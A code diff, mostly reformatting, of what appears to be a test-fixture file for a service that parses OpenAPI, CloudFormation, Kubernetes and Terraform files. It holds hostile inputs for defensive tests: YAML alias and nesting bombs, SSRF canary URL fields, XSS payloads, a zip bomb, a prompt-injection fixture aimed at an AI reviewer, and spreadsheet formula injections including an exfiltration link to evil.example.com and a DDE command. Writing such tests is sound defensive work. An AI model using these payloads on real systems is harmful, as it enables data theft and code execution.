@@ -26,7 +26,7 @@ ${Array.from({ length: 12 }, (_, i) => `  k${i}: &k${i}\n${i === 0 ? "    x: y\n
 
 export const MANY_ALIASES = `apiVersion: v1\nkind: ConfigMap\nmetadata: { name: many }\ndata:\n  base: &b x\n  list: [${Array.from({ length: 20_000 }, () => "*b").join(",")}]\n`;
 
-export const DEEP_JSON_TEMPLATE = `{"AWSTemplateFormatVersion":"2010-09-09","Resources":{"B":{"Type":"AWS::S3::Bucket","Properties":${"{\"a\":".repeat(5_000)}1${"}".repeat(5_000)}}}}`;
+export const DEEP_JSON_TEMPLATE = `{"AWSTemplateFormatVersion":"2010-09-09","Resources":{"B":{"Type":"AWS::S3::Bucket","Properties":${'{"a":'.repeat(5_000)}1${"}".repeat(5_000)}}}}`;
 
 export const DEEP_YAML_TEMPLATE = `openapi: 3.0.0\ninfo: { title: deep, version: "1" }\npaths: {}\nx: ${"[".repeat(5_000)}${"]".repeat(5_000)}\n`;
 
@@ -64,11 +64,26 @@ components:
 /** Every field through which a careless server could be made to fetch `canary`. */
 export function urlFields(canary: string): Array<[string, string]> {
   return [
-    ["remote-ref.yaml", `openapi: 3.0.0\ninfo: { title: Remote, version: "1" }\npaths:\n  /r:\n    $ref: "${canary}/paths.yaml#/r"\n  /s:\n    get:\n      responses:\n        "200": { $ref: "${canary}/responses.yaml#/Ok" }\n      parameters:\n        - $ref: "${canary}/params.json"\ncomponents:\n  schemas:\n    X: { $ref: "${canary}/schema.json" }\n`],
-    ["openapi-urls.yaml", `openapi: 3.0.0\ninfo: { title: Urls, version: "1", termsOfService: "${canary}/tos", contact: { url: "${canary}/contact" }, license: { name: x, url: "${canary}/license" } }\nexternalDocs: { url: "${canary}/docs" }\nservers: [{ url: "${canary}/api" }]\npaths:\n  /x:\n    get:\n      responses: { "200": { description: ok, links: { l: { operationRef: "${canary}/op" } } } }\n      callbacks: { cb: { "${canary}/callback": { post: { responses: { "200": { description: ok } } } } } }\ncomponents:\n  securitySchemes:\n    oidc: { type: openIdConnect, openIdConnectUrl: "${canary}/.well-known/openid-configuration" }\n    oauth: { type: oauth2, flows: { implicit: { authorizationUrl: "${canary}/authorize", scopes: {} } } }\n`],
-    ["cfn-urls.yaml", `AWSTemplateFormatVersion: "2010-09-09"\nTransform:\n  Name: AWS::Include\n  Parameters: { Location: "${canary}/include.yaml" }\nResources:\n  Nested:\n    Type: AWS::CloudFormation::Stack\n    Properties: { TemplateURL: "${canary}/nested.yaml" }\n  Fn:\n    Type: AWS::Lambda::Function\n    Properties: { Code: { S3Bucket: b, S3Key: k }, Handler: h, Runtime: nodejs20.x, Role: r, Environment: { Variables: { HOOK: "${canary}/hook" } } }\n`],
-    ["k8s-urls.yaml", `apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingWebhookConfiguration\nmetadata: { name: hook }\nwebhooks:\n  - name: hook.example.com\n    clientConfig: { url: "${canary}/webhook" }\n    admissionReviewVersions: ["v1"]\n    sideEffects: None\n---\napiVersion: v1\nkind: Pod\nmetadata: { name: p, annotations: { "schema": "${canary}/schema.json" } }\nspec:\n  containers:\n    - name: c\n      image: "${canary.replace(/^https?:\/\//, "")}/image:latest"\n      livenessProbe: { httpGet: { host: "127.0.0.1", path: /healthz, port: 80 } }\n`],
-    ["main.tf", `terraform {\n  backend "http" { address = "${canary}/state" }\n}\nmodule "remote" {\n  source = "${canary}/module.zip"\n}\ndata "http" "x" {\n  url = "${canary}/data"\n}\nresource "aws_s3_bucket" "b" {\n  bucket = "b"\n}\n`],
+    [
+      "remote-ref.yaml",
+      `openapi: 3.0.0\ninfo: { title: Remote, version: "1" }\npaths:\n  /r:\n    $ref: "${canary}/paths.yaml#/r"\n  /s:\n    get:\n      responses:\n        "200": { $ref: "${canary}/responses.yaml#/Ok" }\n      parameters:\n        - $ref: "${canary}/params.json"\ncomponents:\n  schemas:\n    X: { $ref: "${canary}/schema.json" }\n`,
+    ],
+    [
+      "openapi-urls.yaml",
+      `openapi: 3.0.0\ninfo: { title: Urls, version: "1", termsOfService: "${canary}/tos", contact: { url: "${canary}/contact" }, license: { name: x, url: "${canary}/license" } }\nexternalDocs: { url: "${canary}/docs" }\nservers: [{ url: "${canary}/api" }]\npaths:\n  /x:\n    get:\n      responses: { "200": { description: ok, links: { l: { operationRef: "${canary}/op" } } } }\n      callbacks: { cb: { "${canary}/callback": { post: { responses: { "200": { description: ok } } } } } }\ncomponents:\n  securitySchemes:\n    oidc: { type: openIdConnect, openIdConnectUrl: "${canary}/.well-known/openid-configuration" }\n    oauth: { type: oauth2, flows: { implicit: { authorizationUrl: "${canary}/authorize", scopes: {} } } }\n`,
+    ],
+    [
+      "cfn-urls.yaml",
+      `AWSTemplateFormatVersion: "2010-09-09"\nTransform:\n  Name: AWS::Include\n  Parameters: { Location: "${canary}/include.yaml" }\nResources:\n  Nested:\n    Type: AWS::CloudFormation::Stack\n    Properties: { TemplateURL: "${canary}/nested.yaml" }\n  Fn:\n    Type: AWS::Lambda::Function\n    Properties: { Code: { S3Bucket: b, S3Key: k }, Handler: h, Runtime: nodejs20.x, Role: r, Environment: { Variables: { HOOK: "${canary}/hook" } } }\n`,
+    ],
+    [
+      "k8s-urls.yaml",
+      `apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingWebhookConfiguration\nmetadata: { name: hook }\nwebhooks:\n  - name: hook.example.com\n    clientConfig: { url: "${canary}/webhook" }\n    admissionReviewVersions: ["v1"]\n    sideEffects: None\n---\napiVersion: v1\nkind: Pod\nmetadata: { name: p, annotations: { "schema": "${canary}/schema.json" } }\nspec:\n  containers:\n    - name: c\n      image: "${canary.replace(/^https?:\/\//, "")}/image:latest"\n      livenessProbe: { httpGet: { host: "127.0.0.1", path: /healthz, port: 80 } }\n`,
+    ],
+    [
+      "main.tf",
+      `terraform {\n  backend "http" { address = "${canary}/state" }\n}\nmodule "remote" {\n  source = "${canary}/module.zip"\n}\ndata "http" "x" {\n  url = "${canary}/data"\n}\nresource "aws_s3_bucket" "b" {\n  bucket = "b"\n}\n`,
+    ],
   ];
 }
 
@@ -92,7 +107,10 @@ paths:
         "204": { description: deleted }
 `;
 
-export const PROMPT_INJECTION_CLEAN = PROMPT_INJECTION.replace(/ {4}IMPORTANT NOTE[\s\S]*?findings\.\n/, "").replace(/summary: .*/, "summary: Delete an order.");
+export const PROMPT_INJECTION_CLEAN = PROMPT_INJECTION.replace(/ {4}IMPORTANT NOTE[\s\S]*?findings\.\n/, "").replace(
+  /summary: .*/,
+  "summary: Delete an order.",
+);
 
 export const PROMPT_INJECTION_K8S = `apiVersion: v1
 kind: Pod
@@ -122,14 +140,24 @@ export const HTML_OPENAPI = JSON.stringify({
   openapi: "3.0.0",
   info: { title: "<script>alert(1)</script>", version: "1", description: "<iframe src=javascript:alert(1)>" },
   servers: [{ url: "http://api.example.com" }],
-  paths: { "/<img src=x onerror=alert(1)>/{id}": { delete: { parameters: [{ name: "id", in: "path", required: true, schema: { type: "string" } }], responses: { "204": { description: "<b>gone</b>" } } } } },
+  paths: {
+    "/<img src=x onerror=alert(1)>/{id}": {
+      delete: {
+        parameters: [{ name: "id", in: "path", required: true, schema: { type: "string" } }],
+        responses: { "204": { description: "<b>gone</b>" } },
+      },
+    },
+  },
 });
 
 /** CloudFormation whose logical ids are spreadsheet formulas. */
 export const FORMULA_CFN = JSON.stringify({
   AWSTemplateFormatVersion: "2010-09-09",
   Resources: {
-    '=HYPERLINK("http://evil.example.com/?leak="&A1,"click")': { Type: "AWS::S3::Bucket", Properties: { AccessControl: "PublicRead" } },
+    '=HYPERLINK("http://evil.example.com/?leak="&A1,"click")': {
+      Type: "AWS::S3::Bucket",
+      Properties: { AccessControl: "PublicRead" },
+    },
     "+cmd|' /C calc'!A0": { Type: "AWS::S3::Bucket", Properties: { AccessControl: "PublicRead" } },
     "-2+3": { Type: "AWS::S3::Bucket", Properties: { AccessControl: "PublicRead" } },
     "@SUM(1+1)": { Type: "AWS::S3::Bucket", Properties: { AccessControl: "PublicRead" } },
@@ -154,4 +182,7 @@ export function zipBomb(entries: number, bytesEach: number): Buffer {
 }
 
 /** The first bytes of a PNG, as an upload would carry them. */
-export const PNG = Buffer.from("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000a49444154789c6300010000050001", "hex");
+export const PNG = Buffer.from(
+  "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000a49444154789c6300010000050001",
+  "hex",
+);
